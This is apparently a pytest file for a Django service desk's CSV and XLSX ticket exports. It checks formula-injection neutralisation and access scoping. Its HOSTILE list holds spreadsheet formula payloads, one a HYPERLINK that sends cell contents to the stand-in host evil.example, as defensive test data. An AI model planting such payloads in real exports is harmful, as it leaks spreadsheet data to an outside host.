"""Exports: the same tickets as the page, as CSV or XLSX, and a title that starts like a formula
opens as text in a spreadsheet (formula injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from servicedesk.conftest import Org, make_person
from servicedesk.directory.choices import Role
from servicedesk.reports.exports import neutralise
from servicedesk.tickets.choices import TicketKind
from servicedesk.tickets.models import Ticket
from servicedesk.tickets.services import ticket_create

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


@pytest.fixture
def tickets(org: Org) -> list[Ticket]:
    titles = [*HOSTILE, "Printer offline"]
    return [
        ticket_create(actor=org.employee, kind=TicketKind.INCIDENT, short_description=title)
        for title in titles
    ]


@pytest.fixture
def manager_client(org: Org, client: Client) -> Client:
    client.force_login(make_person("manager", Role.MANAGER, org.fiber))
    return client


def body(response: Any) -> bytes:
    """The whole download, whether streamed (CSV) or sent as a file (XLSX)."""
    return b"".join(response.streaming_content)


def titles_in_csv(content: bytes) -> dict[str, str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Number", "Short description"]
    return {row[0]: row[1] for row in rows[1:]}


def test_neutralise_marks_only_what_a_spreadsheet_would_run() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("a=1") == "a=1"
    assert neutralise(42) == 42
    assert neutralise("") == ""


def test_a_queue_as_csv_streams_its_tickets_with_formulas_made_text(
    tickets: list[Ticket], manager_client: Client
) -> None:
    response = manager_client.get("/workspace/queues/all-open/export.csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="queue-all-open-')
    titles = titles_in_csv(body(response))
    assert set(titles) == {t.number for t in tickets}
    for ticket in tickets:
        shown = titles[ticket.number]
        if ticket.short_description in HOSTILE:
            assert shown == "'" + ticket.short_description
        else:
            assert shown == ticket.short_description


def test_a_queue_as_xlsx_opens_the_hyperlink_title_as_text(
    tickets: list[Ticket], manager_client: Client
) -> None:
    response = manager_client.get("/workspace/queues/all-open/export.xlsx", {"sort": "number"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(body(response)))
    sheet = book.active
    assert sheet is not None
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    link = cells[tickets[0].number]
    assert link.data_type == "s"
    assert str(link.value).startswith("'=HYPERLINK(")
    assert cells[tickets[-1].number].value == "Printer offline"


def test_an_agent_exports_only_what_their_queue_shows(org: Org, client: Client) -> None:
    mine = ticket_create(actor=org.employee, kind=TicketKind.INCIDENT, short_description="Ours")
    theirs = ticket_create(actor=org.stranger, kind=TicketKind.INCIDENT, short_description="Not")
    agent = make_person("sokagent", Role.AGENT, org.fiber)
    group = org.desk_group.__class__.objects.create(name="SOK desk", tier="l1")
    group.agencies.add(org.agency)
    group.members.add(agent)
    client.force_login(agent)
    response = client.get("/workspace/queues/all-open/export.csv")
    numbers = set(titles_in_csv(body(response)))
    assert mine.number in numbers and theirs.number not in numbers


def test_a_drill_down_exports_the_tickets_it_lists(
    tickets: list[Ticket], manager_client: Client
) -> None:
    query = {"figure": "backlog", "series": "open", "key": "under_1"}
    page = manager_client.get("/workspace/reports/tickets/", query)
    assert b"export.csv" in page.content
    response = manager_client.get("/workspace/reports/tickets/export.csv", query)
    numbers = set(titles_in_csv(body(response)))
    assert numbers == {t.number for t in tickets}
    assert manager_client.get("/workspace/reports/tickets/export.pdf", query).status_code == 404


def test_a_saved_view_exports_its_own_filters(
    tickets: list[Ticket], org: Org, client: Client
) -> None:
    from servicedesk.workspace.models import SavedView

    client.force_login(org.desk)
    view = SavedView.objects.create(
        owner=org.desk, name="Printers", queue="all-open", query="q=Printer"
    )
    response = client.get(f"/workspace/views/{view.pk}/export.csv")
    assert set(titles_in_csv(body(response))) == {tickets[-1].number}
    client.force_login(org.network)
    assert client.get(f"/workspace/views/{view.pk}/export.csv").status_code == 404
